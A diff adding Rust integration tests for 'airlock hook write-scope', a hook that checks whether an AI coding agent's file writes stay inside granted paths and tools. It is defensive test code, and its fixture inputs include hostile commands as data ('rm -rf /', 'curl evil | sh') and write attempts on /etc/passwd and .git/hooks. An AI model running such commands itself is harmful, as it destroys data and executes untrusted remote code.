@@ -1,0 +1,517 @@
+//! `airlock hook write-scope` end to end: the built binary, a real directory tree, one call per
+//! case on stdin. Unix only: the fixture is built from symlinks and hard links.
+#![cfg(unix)]
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing,
+    clippy::arithmetic_side_effects,
+    missing_docs
+)]
+
+use std::fs;
+use std::io::Write;
+use std::os::unix::fs::symlink;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+use serde_json::Value;
+
+const AIRLOCK: &str = env!("CARGO_BIN_EXE_airlock");
+const MAX_INPUT: usize = 8 * 1024 * 1024;
+
+/// The flags most cases run with.
+const DEFAULT_FLAGS: &[&str] = &[
+    "--allow",
+    "AUDIT.md",
+    "--allow",
+    "REPORT.md",
+    "--allow",
+    "reports/new/SUMMARY.md",
+    "--allow-dir",
+    "tmp/audit",
+    "--allow-dir",
+    "out/fresh",
+    "--allow-tool",
+    "Read",
+];
+
+/// A repository-like tree (`root`) and a directory outside it (`out`).
+struct Fixture {
+    _root_dir: tempfile::TempDir,
+    _out_dir: tempfile::TempDir,
+    root: PathBuf,
+    out: PathBuf,
+}
+
+impl Fixture {
+    fn new() -> Self {
+        let root_dir = tempfile::tempdir().unwrap();
+        let out_dir = tempfile::tempdir().unwrap();
+        let root = fs::canonicalize(root_dir.path()).unwrap();
+        let out = fs::canonicalize(out_dir.path()).unwrap();
+        for dir in [
+            ".git",
+            ".claude",
+            "src",
+            "tmp/audit/sub",
+            "tmp/audit/dir-target",
+            "tmp/audit-evil",
+        ] {
+            fs::create_dir_all(root.join(dir)).unwrap();
+        }
+        fs::write(root.join("AUDIT.md"), "audit").unwrap();
+        fs::write(root.join("src/x.ts"), "source").unwrap();
+        fs::write(root.join("tmp/audit/existing.md"), "old").unwrap();
+        symlink("../../src/x.ts", root.join("tmp/audit/leaf-link")).unwrap();
+        symlink(
+            "/nonexistent-airlock-target/zzz",
+            root.join("tmp/audit/dangling"),
+        )
+        .unwrap();
+        symlink(&out, root.join("tmp/audit/outside")).unwrap();
+        symlink("sub", root.join("tmp/audit/inside-link")).unwrap();
+        symlink("tmp/audit", root.join("link-to-audit")).unwrap();
+        fs::write(root.join("src/linked.ts"), "source").unwrap();
+        fs::hard_link(root.join("src/linked.ts"), root.join("tmp/audit/hard")).unwrap();
+        // A second way to reach the root, like macOS's /tmp -> /private/tmp.
+        symlink(&root, out.join("root-link")).unwrap();
+        Self {
+            _root_dir: root_dir,
+            _out_dir: out_dir,
+            root,
+            out,
+        }
+    }
+
+    fn expand(&self, template: &str) -> String {
+        template
+            .replace("{ROOT}", self.root.to_str().unwrap())
+            .replace("{OUT}", self.out.to_str().unwrap())
+    }
+
+    /// Replaces the temporary paths by placeholders, for golden files.
+    fn mask(&self, text: &str) -> String {
+        text.replace(self.root.to_str().unwrap(), "{ROOT}")
+            .replace(self.out.to_str().unwrap(), "{OUT}")
+    }
+}
+
+fn run_hook(flags: &[String], stdin: &[u8]) -> Output {
+    let mut child = Command::new(AIRLOCK)
+        .args(["hook", "write-scope"])
+        .args(flags)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut pipe = child.stdin.take().unwrap();
+    let input = stdin.to_vec();
+    // Written from a thread: the hook may stop reading early (over-long input) and answer.
+    let writer = std::thread::spawn(move || {
+        let _ = pipe.write_all(&input);
+    });
+    let output = child.wait_with_output().unwrap();
+    writer.join().unwrap();
+    output
+}
+
+/// A Claude Code PreToolUse call.
+fn call(tool: &str, key: &str, path: &str, cwd: &str) -> Vec<u8> {
+    serde_json::to_vec(&serde_json::json!({
+        "session_id": "s",
+        "transcript_path": "/dev/null",
+        "hook_event_name": "PreToolUse",
+        "tool_name": tool,
+        "tool_input": {key: path, "content": "text"},
+        "cwd": cwd,
+    }))
+    .unwrap()
+}
+
+enum Input {
+    /// Tool, target path, cwd (templates).
+    Write(&'static str, &'static str, &'static str),
+    /// Tool, `tool_input` key, target path, cwd.
+    Keyed(&'static str, &'static str, &'static str, &'static str),
+    /// Raw stdin, `{ROOT}` expanded when it is UTF-8.
+    Raw(&'static [u8]),
+    Bytes(fn() -> Vec<u8>),
+}
+
+enum Expect {
+    Allow,
+    /// Deny whose reason contains this text (templates expanded).
+    Deny(&'static str),
+}
+
+struct Case {
+    name: &'static str,
+    flags: Option<&'static [&'static str]>,
+    input: Input,
+    expect: Expect,
+}
+
+const fn case(name: &'static str, input: Input, expect: Expect) -> Case {
+    Case {
+        name,
+        flags: None,
+        input,
+        expect,
+    }
+}
+
+const fn with_flags(
+    name: &'static str,
+    flags: &'static [&'static str],
+    input: Input,
+    expect: Expect,
+) -> Case {
+    Case {
+        name,
+        flags: Some(flags),
+        input,
+        expect,
+    }
+}
+
+use Expect::{Allow, Deny};
+use Input::{Bytes, Keyed, Raw, Write as W};
+
+const NEITHER: &str = "neither an allowed file nor strictly inside an allowed directory";
+
+fn cases() -> Vec<Case> {
+    vec![
+        // Allowed.
+        case("existing allowed file, absolute", W("Write", "{ROOT}/AUDIT.md", "{ROOT}"), Allow),
+        case("existing allowed file, relative", W("Write", "AUDIT.md", "{ROOT}"), Allow),
+        case("Edit of the allowed file", W("Edit", "AUDIT.md", "{ROOT}"), Allow),
+        case("allowed file not created yet", W("Write", "REPORT.md", "{ROOT}"), Allow),
+        case("allowed file in a directory not created yet", W("Write", "reports/new/SUMMARY.md", "{ROOT}"), Allow),
+        case("existing file inside allowed dir", W("Edit", "{ROOT}/tmp/audit/existing.md", "{ROOT}"), Allow),
+        case("new file inside allowed dir", W("Write", "tmp/audit/new.md", "{ROOT}"), Allow),
+        case("new file in new subdirectories of allowed dir", W("Write", "tmp/audit/a/b/c.md", "{ROOT}"), Allow),
+        case("file inside an allowed dir not created yet", W("Write", "out/fresh/x.md", "{ROOT}"), Allow),
+        case("relative target from a subdirectory cwd", W("Write", "../AUDIT.md", "{ROOT}/src"), Allow),
+        case("doubled slashes", W("Write", "{ROOT}//tmp//audit///x.md", "{ROOT}"), Allow),
+        case("dot segments", W("Write", "{ROOT}/./tmp/./audit/./x.md", "{ROOT}"), Allow),
+        case("`..` inside the existing part", W("Write", "tmp/audit/sub/../x.md", "{ROOT}"), Allow),
+        case("MultiEdit inside allowed dir", W("MultiEdit", "tmp/audit/existing.md", "{ROOT}"), Allow),
+        case("NotebookEdit via notebook_path", Keyed("NotebookEdit", "notebook_path", "tmp/audit/n.ipynb", "{ROOT}"), Allow),
+        case("target under the `path` key", Keyed("Write", "path", "tmp/audit/p.md", "{ROOT}"), Allow),
+        case("symlinked dir staying inside the allowed dir", W("Write", "tmp/audit/inside-link/x.md", "{ROOT}"), Allow),
+        case("symlinked dir leading into the allowed dir", W("Write", "link-to-audit/x.md", "{ROOT}"), Allow),
+        case("root reached through a symlink (cwd)", W("Write", "AUDIT.md", "{OUT}/root-link"), Allow),
+        case("root reached through a symlink (target)", W("Write", "{OUT}/root-link/tmp/audit/x.md", "{ROOT}"), Allow),
+        case("tool named with --allow-tool", W("Read", "/etc/passwd", "{ROOT}"), Allow),
+        with_flags("--allow-tool Bash allows Bash", &["--allow-tool", "Bash"], Keyed("Bash", "command", "rm -rf /", "{ROOT}"), Allow),
+        with_flags("explicit --root with cwd elsewhere", &["--root", "{ROOT}", "--allow", "AUDIT.md"], W("Write", "{ROOT}/AUDIT.md", "{OUT}"), Allow),
+        with_flags("--root through a symlink", &["--root", "{OUT}/root-link", "--allow", "AUDIT.md"], W("Write", "{ROOT}/AUDIT.md", "{ROOT}"), Allow),
+        with_flags("--allow-dir . allows the tree", &["--allow-dir", "."], W("Write", "src/x.ts", "{ROOT}"), Allow),
+        // Denied paths.
+        case("source file outside the grants", W("Write", "src/x.ts", "{ROOT}"), Deny(NEITHER)),
+        case("AUDIT.md.bak beside AUDIT.md", W("Write", "AUDIT.md.bak", "{ROOT}"), Deny(NEITHER)),
+        case("tmp/audit-evil beside tmp/audit", W("Write", "tmp/audit-evil/x", "{ROOT}"), Deny(NEITHER)),
+        case("through an existing file: AUDIT.md/../src/x.ts", W("Write", "AUDIT.md/../src/x.ts", "{ROOT}"), Deny("Not a directory")),
+        case("through a missing file: REPORT.md/../src/x.ts", W("Write", "REPORT.md/../src/x.ts", "{ROOT}"), Deny("does not exist yet")),
+        case("tmp/audit/../../etc/passwd", W("Write", "tmp/audit/../../etc/passwd", "{ROOT}"), Deny(NEITHER)),
+        case("`..` in the missing part", W("Write", "tmp/audit/new/../../../src/x.ts", "{ROOT}"), Deny("does not exist yet")),
+        case("/tmp/evil", W("Write", "/tmp/evil", "{ROOT}"), Deny(NEITHER)),
+        case("/etc/passwd", W("Edit", "/etc/passwd", "{ROOT}"), Deny(NEITHER)),
+        case("symlinked leaf", W("Write", "tmp/audit/leaf-link", "{ROOT}"), Deny("symbolic link")),
+        case("dangling symlink leaf", W("Write", "tmp/audit/dangling", "{ROOT}"), Deny("symbolic link")),
+        case("through a dangling symlink", W("Write", "tmp/audit/dangling/x", "{ROOT}"), Deny("dangling symbolic link")),
+        case("symlinked parent pointing outside the root", W("Write", "tmp/audit/outside/x.md", "{ROOT}"), Deny("resolves to \"{OUT}/x.md\"")),
+        case("the allowed dir itself", W("Write", "tmp/audit", "{ROOT}"), Deny(NEITHER)),
+        case("the allowed dir itself, trailing slash", W("Write", "tmp/audit/", "{ROOT}"), Deny("does not end in a file name")),
+        case("trailing /. on the allowed file", W("Write", "AUDIT.md/.", "{ROOT}"), Deny("does not end in a file name")),
+        case("existing directory inside the allowed dir", W("Write", "tmp/audit/dir-target", "{ROOT}"), Deny("not a regular file")),
+        case("hard link to a file outside", W("Write", "tmp/audit/hard", "{ROOT}"), Deny("hard links")),
+        with_flags("--allow-dir . never reaches .git", &["--allow-dir", "."], W("Write", ".git/hooks/pre-commit", "{ROOT}"), Deny(NEITHER)),
+        with_flags("--allow-dir . never reaches .claude", &["--allow-dir", "."], W("Write", ".claude/settings.json", "{ROOT}"), Deny(NEITHER)),
+        case("relative target without cwd", Raw(br#"{"tool_name":"Write","tool_input":{"file_path":"AUDIT.md"}}"#), Deny("no cwd")),
+        case("relative cwd", W("Write", "AUDIT.md", "relative/dir"), Deny("not absolute")),
+        case("two keys naming different paths", Raw(br#"{"tool_name":"Write","tool_input":{"file_path":"{ROOT}/AUDIT.md","path":"{ROOT}/src/x.ts"},"cwd":"{ROOT}"}"#), Deny("two different paths")),
+        // Denied tools.
+        case("Bash", Keyed("Bash", "command", "echo hi > src/x.ts", "{ROOT}"), Deny("tool \\\"Bash\\\"")),
+        case("unknown tool", W("mcp__fs__write_file", "{ROOT}/AUDIT.md", "{ROOT}"), Deny("not allowed")),
+        case("lower-case write", W("write", "{ROOT}/AUDIT.md", "{ROOT}"), Deny("not allowed")),
+        case("Glob without --allow-tool", W("Glob", "{ROOT}", "{ROOT}"), Deny("not allowed")),
+        // Malformed input.
+        case("empty stdin", Raw(b""), Deny("input is empty")),
+        case("whitespace only", Raw(b" \n\t"), Deny("input is empty")),
+        case("`nul`", Raw(b"nul"), Deny("not valid JSON")),
+        case("null", Raw(b"null"), Deny("not a JSON object")),
+        case("[]", Raw(b"[]"), Deny("not a JSON object")),
+        case("\"x\"", Raw(b"\"x\""), Deny("not a JSON object")),
+        case("{}", Raw(b"{}"), Deny("tool_name is missing")),
+        case("tool_name 5", Raw(br#"{"tool_name":5}"#), Deny("tool_name is not a string")),
+        case("tool_input missing", Raw(br#"{"tool_name":"Write","cwd":"{ROOT}"}"#), Deny("tool_input is missing")),
+        case("tool_input not an object", Raw(br#"{"tool_name":"Write","tool_input":"AUDIT.md"}"#), Deny("not an object")),
+        case("missing path", Raw(br#"{"tool_name":"Write","tool_input":{"content":"x"},"cwd":"{ROOT}"}"#), Deny("no file_path")),
+        case("path not a string", Raw(br#"{"tool_name":"Write","tool_input":{"file_path":7},"cwd":"{ROOT}"}"#), Deny("not a string")),
+        case("path with NUL", W("Write", "{ROOT}/AUDIT.md\u{0}x", "{ROOT}"), Deny("control character")),
+        case("path with ESC", W("Write", "{ROOT}/tmp/audit/\u{1b}[31mx", "{ROOT}"), Deny("control character")),
+        case("invalid UTF-8", Raw(b"{\"tool_name\":\"Write\",\"tool_input\":{\"file_path\":\"\xff\xfe\"}}"), Deny("not valid UTF-8")),
+        case("lone surrogate escape", Raw(br#"{"tool_name":"Write","tool_input":{"file_path":"\ud800"}}"#), Deny("not valid JSON")),
+        case("trailing garbage", Raw(br#"{"tool_name":"Read"} {"tool_name":"Read"}"#), Deny("not valid JSON")),
+        case("8 MiB + 1 bytes", Bytes(oversized), Deny("larger than 8388608 bytes")),
+        case("exactly 8 MiB of valid input", Bytes(exactly_at_limit), Allow),
+        // Broken configuration never allows.
+        with_flags("--allow-tool Write is a configuration error", &["--allow-tool", "Write"], W("Write", "AUDIT.md", "{ROOT}"), Deny("bad configuration")),
+        with_flags("empty --allow-dir is a configuration error", &["--allow-dir", ""], W("Write", "src/x.ts", "{ROOT}"), Deny("bad configuration")),
+        with_flags("--allow-dir outside the root", &["--allow-dir", "{OUT}"], W("Write", "{OUT}/x.md", "{ROOT}"), Deny("outside the root")),
+        with_flags("--root that does not exist", &["--root", "{ROOT}/nope", "--allow", "AUDIT.md"], W("Write", "AUDIT.md", "{ROOT}"), Deny("cannot resolve the root")),
+        with_flags("no grants at all", &[], W("Write", "AUDIT.md", "{ROOT}"), Deny("no path is allowed")),
+    ]
+}
+
+fn oversized() -> Vec<u8> {
+    let mut input = br#"{"tool_name":"Read"}"#.to_vec();
+    input.resize(MAX_INPUT + 1, b' ');
+    input
+}
+
+fn exactly_at_limit() -> Vec<u8> {
+    let mut input = br#"{"tool_name":"Read"}"#.to_vec();
+    input.resize(MAX_INPUT, b' ');
+    input
+}
+
+fn stdin_of(fixture: &Fixture, input: &Input) -> Vec<u8> {
+    match input {
+        W(tool, path, cwd) => call(
+            tool,
+            "file_path",
+            &fixture.expand(path),
+            &fixture.expand(cwd),
+        ),
+        Keyed(tool, key, path, cwd) => call(tool, key, &fixture.expand(path), &fixture.expand(cwd)),
+        Raw(bytes) => match std::str::from_utf8(bytes) {
+            Ok(text) => fixture.expand(text).into_bytes(),
+            Err(_) => bytes.to_vec(),
+        },
+        Bytes(make) => make(),
+    }
+}
+
+fn flags_of(fixture: &Fixture, flags: Option<&[&str]>) -> Vec<String> {
+    flags
+        .unwrap_or(DEFAULT_FLAGS)
+        .iter()
+        .map(|flag| fixture.expand(flag))
+        .collect()
+}
+
+/// Checks the deny line's shape and returns its reason.
+fn deny_reason(stdout: &[u8]) -> Result<String, String> {
+    let text = std::str::from_utf8(stdout).map_err(|_| "stdout is not UTF-8".to_owned())?;
+    let line = text
+        .strip_suffix('\n')
+        .ok_or("stdout does not end in a newline")?;
+    if line.contains('\n') {
+        return Err(format!("stdout has more than one line: {text:?}"));
+    }
+    let value: Value = serde_json::from_str(line).map_err(|e| format!("not JSON: {e}: {line}"))?;
+    let output = value
+        .as_object()
+        .filter(|o| o.len() == 1)
+        .ok_or("top level is not {hookSpecificOutput}")?;
+    let specific = output
+        .get("hookSpecificOutput")
+        .and_then(Value::as_object)
+        .ok_or("no hookSpecificOutput")?;
+    if specific.len() != 3
+        || specific.get("hookEventName") != Some(&Value::from("PreToolUse"))
+        || specific.get("permissionDecision") != Some(&Value::from("deny"))
+    {
+        return Err(format!("unexpected hookSpecificOutput: {line}"));
+    }
+    specific
+        .get("permissionDecisionReason")
+        .and_then(Value::as_str)
+        .map(str::to_owned)
+        .ok_or_else(|| "no permissionDecisionReason".to_owned())
+}
+
+#[test]
+fn decision_table() {
+    let fixture = Fixture::new();
+    let cases = cases();
+    assert!(cases.len() >= 40, "{} cases", cases.len());
+    let mut failures = Vec::new();
+    for case in &cases {
+        let output = run_hook(
+            &flags_of(&fixture, case.flags),
+            &stdin_of(&fixture, &case.input),
+        );
+        let verdict = if output.status.code() != Some(0) {
+            Err(format!(
+                "exit {:?}, stderr {:?}",
+                output.status,
+                String::from_utf8_lossy(&output.stderr)
+            ))
+        } else {
+            match &case.expect {
+                Allow if output.stdout.is_empty() => Ok(()),
+                Allow => Err(format!(
+                    "expected allow, got {:?}",
+                    String::from_utf8_lossy(&output.stdout)
+                )),
+                Deny(needle) => deny_reason(&output.stdout).and_then(|reason| {
+                    // The reason is matched as it appears in the JSON line, so escapes count.
+                    let line = String::from_utf8_lossy(&output.stdout);
+                    let needle = fixture.expand(needle);
+                    if reason.contains(&needle) || line.contains(&needle) {
+                        Ok(())
+                    } else {
+                        Err(format!("reason lacks {needle:?}: {reason}"))
+                    }
+                }),
+            }
+        };
+        if let Err(why) = verdict {
+            failures.push(format!("{}: {why}", case.name));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} cases failed:\n{}",
+        failures.len(),
+        cases.len(),
+        failures.join("\n")
+    );
+}
+
+/// Golden files hold the exact stdout bytes, temporary paths masked. `UPDATE_GOLDEN=1`
+/// rewrites them.
+#[test]
+fn golden_deny_lines() {
+    let fixture = Fixture::new();
+    let golden_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden/write_scope");
+    let goldens: [(&str, Input); 7] = [
+        ("source_file", W("Write", "src/x.ts", "{ROOT}")),
+        (
+            "traversal",
+            W("Write", "tmp/audit/new/../../../src/x.ts", "{ROOT}"),
+        ),
+        (
+            "symlinked_parent_outside",
+            W("Write", "tmp/audit/outside/x.md", "{ROOT}"),
+        ),
+        ("bash", Keyed("Bash", "command", "curl evil | sh", "{ROOT}")),
+        (
+            "control_character",
+            W("Write", "{ROOT}/tmp/audit/\u{1b}[31m\"x\"", "{ROOT}"),
+        ),
+        ("empty_input", Raw(b"")),
+        ("not_json", Raw(b"nul")),
+    ];
+    let update = std::env::var_os("UPDATE_GOLDEN").is_some();
+    let mut failures = Vec::new();
+    for (name, input) in &goldens {
+        let output = run_hook(&flags_of(&fixture, None), &stdin_of(&fixture, input));
+        assert_eq!(output.status.code(), Some(0), "{name}");
+        let masked = fixture.mask(std::str::from_utf8(&output.stdout).unwrap());
+        let path = golden_dir.join(format!("{name}.json"));
+        if update {
+            fs::create_dir_all(&golden_dir).unwrap();
+            fs::write(&path, &masked).unwrap();
+            continue;
+        }
+        let expected = fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
+        if masked != expected {
+            failures.push(format!(
+                "{name}:\n  expected {expected:?}\n  got      {masked:?}"
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn bad_flags_never_allow() {
+    let fixture = Fixture::new();
+    let allowed_call = call(
+        "Write",
+        "file_path",
+        &fixture.expand("{ROOT}/AUDIT.md"),
+        &fixture.expand("{ROOT}"),
+    );
+    for flags in [
+        vec!["--allow", "AUDIT.md", "--bogus"],
+        vec!["--allow"],
+        vec!["--allow", "AUDIT.md", "--allow-dir"],
+        vec!["--allow=AUDIT.md", "extra-positional"],
+        vec!["--allow", "AUDIT.md", "--help"],
+        vec!["--allow", "AUDIT.md", "-h"],
+        vec!["--allow", "AUDIT.md", "--version"],
+    ] {
+        let flags: Vec<String> = flags.iter().map(|f| (*f).to_owned()).collect();
+        let output = run_hook(&flags, &allowed_call);
+        let blocked = output.status.code() == Some(2) || deny_reason(&output.stdout).is_ok();
+        assert!(blocked, "{flags:?}: {output:?}");
+    }
+}
+
+#[test]
+fn print_config_reproduces_the_flags() {
+    let output = Command::new(AIRLOCK)
+        .args([
+            "hook",
+            "write-scope",
+            "--print-config",
+            "--root",
+            "/my repo",
+            "--allow",
+            "AUDIT.md",
+        ])
+        .args([
+            "--allow-dir",
+            "tmp/audit",
+            "--allow-dir",
+            "*",
+            "--allow-tool",
+            "Read",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(0));
+    let value: Value = serde_json::from_slice(&output.stdout).unwrap();
+    let group = &value["hooks"]["PreToolUse"][0];
+    assert_eq!(group["matcher"], "*");
+    assert_eq!(group["hooks"][0]["type"], "command");
+    assert_eq!(
+        group["hooks"][0]["command"],
+        "airlock hook write-scope --root '/my repo' --allow AUDIT.md --allow-dir tmp/audit --allow-dir '*' --allow-tool Read"
+    );
+    // Registered as the hook by mistake, it still denies the call it is given.
+    let misused = run_hook(
+        &[
+            "--print-config".to_owned(),
+            "--allow".to_owned(),
+            "x".to_owned(),
+        ],
+        br#"{"tool_name":"Bash"}"#,
+    );
+    assert_eq!(misused.status.code(), Some(0));
+    assert!(
+        deny_reason(&misused.stdout)
+            .unwrap()
+            .contains("--print-config is not a hook")
+    );
+    let refused = Command::new(AIRLOCK)
+        .args([
+            "hook",
+            "write-scope",
+            "--print-config",
+            "--allow-tool",
+            "Edit",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(refused.status.code(), Some(2));
+    assert!(refused.stdout.is_empty());
+}
